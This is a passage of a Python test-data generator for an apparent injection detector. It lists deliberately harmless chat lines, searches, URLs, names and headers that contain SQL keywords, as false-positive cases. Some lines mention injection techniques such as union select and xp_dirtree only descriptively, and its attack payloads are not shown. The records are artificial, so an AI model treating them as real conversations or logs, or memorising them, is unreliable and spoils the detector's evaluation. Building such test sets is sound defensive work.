    "load_file is disabled because secure_file_priv is set, the CSV import uses LOAD DATA LOCAL",
    "the DBA says we should stop selecting * from the orders table in the dashboard",
    "the nightly ETL does an insert into staging_orders select from orders where updated > yesterday",
    "count distinct on 40M rows takes 12 seconds, the HyperLogLog extension brings it under one",
    "between 9 and 5 the replica lag stays under a second",
    "the LIKE '%term%' search can't use the index, full-text search is the fix",
    "sort by price asc then name desc is what the product team wants on the listing",
    "we store the user's timezone, not the offset, so DST works",
    "the 1=1 in the query builder is just so every condition can start with AND",
    "the -- comments in the migration files are kept, they explain the column renames",
    # support and product
    "customer says their name O'Brien breaks the signup form, looks like a quote escaping bug in the old page",
    "user asked why searching for 'drop' returns nothing: no products with that word",
    "support ticket: the export CSV shows #NAME? in Excel when a cell starts with =",
    "the password reset link expired after 1 hour, that's by design",
    "admin login page now has rate limiting, 5 tries then a 15 minute wait",
    "somebody typed admin as their username again, the signup form rejects reserved names",
    "the sleep tracking feature ships in version 2.4 with the new charts",
    "customer wants to filter orders where total between 100 and 500, the UI has a range slider now",
    "the report 'Union members by region' is for the HR team, not a database thing",
    "Order #1 of the day came in at 06:01, the morning shift handled it",
    "the having-trouble-logging-in page links to the new help center article",
    "select the rows you want to delete and press the trash icon",
    "the 'Like' button counts are cached for 5 minutes",
    "the weekly digest includes the top 10 posts ordered by likes",
    "the char limit on bios is 160 characters, same as before",
    "hex colour for the new brand is #1a73e8, use it for buttons",
    "the benchmark page on the marketing site needs the Q2 numbers",
    "the union rep meeting is on Thursday at 3pm in room 2",
    "Waitfor it... the new onboarding video is live!",
    "the execute button in the dashboard reruns the saved report",
    # security team
    "pentest report is in: no SQL injection found, two low findings about cookie flags",
    "we added a unit test that checks the login form with a quote in the password",
    "OWASP top 10 training: injection is still on the list, session on Tuesday",
    "the bug bounty triage: the reported sleep-based finding was a slow endpoint, not injectable",
    "sqlmap runs against staging only, with the security team's approval",
    "NoSQL injection in the legacy Express app is fixed by express-mongo-sanitize",
    "our WAF blocked a request with union select in the query string, looks like a scanner",
    "the advisory for the CMS plugin mentions an error-based injection, we don't use that plugin",
    "xp_dirtree came up in the threat intel report, our SQL Server has no outbound SMB anyway",
    "the hex-encoded strings in the logs are just session ids, nothing suspicious",
]
SEARCHES = [
    "O'Brien", "D'Angelo", "O'Neil", "Mc'Donald", "Ng", "Or", "And", "Union Bank", "Select Comfort",
    "Order of the Phoenix", "Group by region", "Having fun", "Like new", "between us", "In Bloom",
    "sleep", "sleep study", "benchmark", "wait for it", "delay", "drop", "drop shipping", "table",
    "insert coin", "update", "delete account", "exec", "execute", "admin", "administrator", "root",
    "user", "version", "database", "schema", "information", "char", "chr", "ascii", "concat",
    "substring", "hex", "#1 seller", "null", "true", "false", "dual citizenship",
    "master", "sys", "mongo", "mongodb atlas", "regex", "$10", "where to buy", "or else", "1 or 2 seats",
    "select all", "cast iron", "convert pdf", "load file", "outfile", "xp", "procedure",
    "Rose & Crown", "50% off", "100% cotton", "c++", "c#", "A&B", "\"quoted\"", "it's", "can't",
]
URLS = [
    "https://dev.mysql.com/doc/refman/8.0/en/select.html",
    "https://dev.mysql.com/doc/refman/8.0/en/union.html",
    "https://dev.mysql.com/doc/refman/8.0/en/comments.html",
    "https://dev.mysql.com/doc/refman/8.0/en/information-schema.html",
    "https://dev.mysql.com/doc/refman/8.0/en/miscellaneous-functions.html#function_sleep",
    "https://dev.mysql.com/doc/refman/8.0/en/string-functions.html#function_substring",
    "https://dev.mysql.com/doc/refman/8.0/en/load-data.html",
    "https://www.postgresql.org/docs/16/functions-datetime.html#FUNCTIONS-DATETIME-DELAY",
    "https://www.postgresql.org/docs/16/sql-copy.html",
    "https://www.postgresql.org/docs/16/dblink.html",
    "https://www.postgresql.org/docs/16/functions-matching.html",
    "https://learn.microsoft.com/en-us/sql/t-sql/language-elements/waitfor-transact-sql",
    "https://learn.microsoft.com/en-us/sql/relational-databases/system-stored-procedures/xp-cmdshell-transact-sql",
    "https://learn.microsoft.com/en-us/sql/t-sql/functions/cast-and-convert-transact-sql",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/arpls/UTL_HTTP.html",
    "https://docs.oracle.com/en/database/oracle/oracle-database/19/arpls/DBMS_PIPE.html",
    "https://www.sqlite.org/lang_corefunc.html",
    "https://www.sqlite.org/schematab.html",
    "https://www.mongodb.com/docs/manual/reference/operator/query/ne/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/where/",
    "https://www.mongodb.com/docs/manual/reference/operator/query/regex/",
    "https://owasp.org/www-community/attacks/SQL_Injection",
    "https://cheatsheetseries.owasp.org/cheatsheets/SQL_Injection_Prevention_Cheat_Sheet.html",
    "https://cheatsheetseries.owasp.org/cheatsheets/Query_Parameterization_Cheat_Sheet.html",
    "https://cwe.mitre.org/data/definitions/89.html",
    "https://cwe.mitre.org/data/definitions/943.html",
    "https://github.com/sqlmapproject/sqlmap/wiki/Usage",
    "https://github.com/client9/libinjection",
    "https://www.npmjs.com/package/express-mongo-sanitize",
    "https://docs.sqlalchemy.org/en/20/core/tutorial.html#using-textual-sql",
    "https://shop.example.com/search?q=union+jack+flag&sort=price_asc",
    "https://shop.example.com/products?category=tables&order=desc&page=2",
    "https://news.example.org/2024/05/12/select-committee-report-published",
    "https://www.example.com/o'reilly-books",
]
PROSE = [
    "Customer O'Brien asked for a refund on order 1042; approved.",
    "Drop-off point for returns changed to the loading dock.",
    "Sleep study participants get their results by email.",
    "Please select the correct region before exporting the report.",
    "The union contract renewal is on the agenda for Friday.",
    "Group the invoices by month and order them by date.",
    "Having checked the logs, the outage was caused by the DNS change.",
    "Orders between 2024-01-01 and 2024-03-31 are included.",
    "Customers like the new checkout; the conversion rate is up 3%.",
    "The admin account for the shop is owned by the finance team.",
    "Password policy: at least 12 characters, no reuse of the last 5.",
    "Insert the new price list into the shared drive before Monday.",
    "Update: the warehouse move is delayed by one week.",
    "Delete the duplicate customer records flagged in the audit.",
    "The benchmark against the competitor's app is attached.",
    "Wait for the carrier's confirmation before shipping.",
    "Version 3.2 of the mobile app is in review.",
    "The database maintenance window is Sunday 02:00-04:00 UTC.",
    "Schema changes need a review by the data team.",
    "The master branch was renamed to main last year.",
    "The hex key for the test device is printed on its label.",
    "Char limit for SMS is 160; longer messages are split.",
    "Convert the PDF to Word before sending it to legal.",
    "Load the new file into the CRM after the cleanup.",
    "The outfile of the scanner lives in /var/reports/scan.txt.",
    "Procedure for onboarding: laptop, accounts, buddy, first ticket.",
    "Execute the plan in two phases: pilot in May, rollout in June.",
    "The sys admin on call this week is Priya.",
    "Mongo the cat is at the vet until Thursday.",
    "Cast and crew list for the company video is final.",
    "1 or 2 people from each team should attend the demo.",
    "Tables for the offsite dinner are booked for 20 people.",
    "Rows 1-50 of the spreadsheet are done, 51-100 still open.",
    "The null hypothesis was rejected at the 5% level.",
    "True north for the project is fewer support tickets.",
    "The regex for postcodes accepts both formats now.",
    "Between you and me, the new coffee machine is great.",
    "Like last year, the holiday party is at the boathouse.",
    "The 'Order by phone' option is removed from the site.",
    "Union Street office is closed on Monday for repairs.",
]
PROFILES = [
    ("Siobhan O'Brien", "12 Union Street, Aberdeen"),
    ("Conor D'Arcy", "3 Select Road, Dublin"),
    ("Liam O'Neil", "Main St 1, Galway"),
    ("Maria Dell'Acqua", "Via Roma 12, Milano"),
    ("Jean-Luc D'Amboise", "5 Rue de la Paix, Paris"),
    ("Sara Between", "Hill Rd 4, Bristol"),
    ("Tom Order", "Market Sq 2, Bath"),
    ("Union Plumbing Ltd", "Dock 7, Liverpool"),
    ("Select Motors", "400 Track Rd, Detroit"),
    ("Sleep Well Hotels", "1 Ocean Dr, Miami"),
    ("Drop Zone Skydiving", "Airfield 3, Perris, CA"),
    ("Master Key Locksmiths", "Kings Rd 8, Brighton"),
    ("Mongo Pizza", "Church St 3, Cardiff"),
    ("Oracle Yoga Studio", "Loft 3, Rotterdam"),
    ("Table & Chair Co", "Unit 4, Industrial Est, Leeds"),
    ("Admin Services GmbH", "Hauptstraße 3, Berlin"),
    ("Root & Branch Gardening", "Oak Lane 7, Leeds"),
    ("Benchmark Fitness", "Gym Rd 9, Glasgow"),
    ("Having Fun Events", "Party Ln 1, Austin"),
    ("Like Minds Consulting", "Sky Tower 9, Auckland"),
    ("José Ñúñez", "Av. Paulista 1000, São Paulo"),
    ("Zoë Müller", "Bahnhofstraße 1, Zürich"),
    ("Anna-Lena Sys", "Ring 4, Vienna"),
    ("Chris Hex", "Elm St 44, Toronto"),
    ("Dana Char", "PO Box 127, Portland"),
]
UPLOAD_NAMES = [
    "orders_2024-05.csv", "union-contract-2024.pdf", "select-committee-notes.docx", "sleep-study-results.xlsx",
    "db-schema-diagram.png", "drop-ship-suppliers.xlsx", "benchmark_q2.pdf", "O'Brien invoice.pdf",
    "table of contents.docx", "admin-guide-v3.pdf", "mysql-upgrade-plan.md", "postgres-16-notes.txt",
    "mongodb-atlas-invoice.pdf", "group photo 2024.jpg", "order #1042 receipt.pdf", "having-a-blast.jpg",
    "like-button-spec.pdf", "between-the-lines.epub", "master-price-list.xlsx", "report (1).csv",
]
BENIGN_HEADERS = [
    ("User-Agent", "Mozilla/5.0 (Macintosh; Intel Mac OS X 14_4) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Version/17.4 Safari/605.1.15"),
    ("User-Agent", "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) "
                   "Chrome/124.0.0.0 Safari/537.36"),
    ("User-Agent", "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) "
                   "Mobile/15E148"),
    ("User-Agent", "python-requests/2.31.0"),
    ("User-Agent", "curl/8.5.0"),
    ("User-Agent", "okhttp/4.12.0"),
    ("User-Agent", "PostmanRuntime/7.37.3"),
    ("Referer", "https://app.example.com/admin/users?page=2&sort=name&order=asc"),
    ("Referer", "https://www.google.com/search?q=mysql+order+by+two+columns"),
    ("Referer", "https://stackoverflow.com/questions/1234567/sql-select-where-in-list"),
    ("Referer", "https://shop.example.com/search?q=union+jack"),
    ("X-Api-Version", "2024-05-01"),
    ("X-Request-Id", "8f14e45f-ceea-467a-9575-6c5a4d2b9f4e"),
    ("Accept-Language", "en-IE,en;q=0.9,ga;q=0.8"),
    ("Cookie", "session=abc123; sort=created_desc; lang=en-GB"),
    ("Cookie", "session=abc123; last_search=O%27Brien; tz=Europe%2FDublin"),
    ("Cookie", "session=abc123; filter=price_between_10_50; view=table"),
]


def benign() -> Iterator[dict[str, Any]]:
    n = yield from chat_and_bio(CHAT, NAME)
    n = yield from numbered((_get(_query("/api/users", [("q", q), ("page", "1")])) for q in SEARCHES),
                            f"{NAME}-search", n, "query")
    n = yield from links_and_prose(URLS, PROSE, NAME, n)
    n = yield from numbered((_json("/api/users", {"name": who, "address": where, "email": "user@example.org"})
                             for who, where in PROFILES), f"{NAME}-profile", n, "json")
    n = yield from numbered((_request("POST", "/admin/users/import",
                                      _multipart([("csrf_token", "t0k3n", None), ("file", "hello", fn)]),
                                      "multipart/form-data; boundary=" + BOUNDARY) for fn in UPLOAD_NAMES),
                            f"{NAME}-upload", n, "multipart-filename")
    yield from numbered((_request("GET", "/api/users?page=1", **{k: v}) for k, v in BENIGN_HEADERS),
                        f"{NAME}-header", n, "header")


if __name__ == "__main__":
    print_records(attacks(), benign())
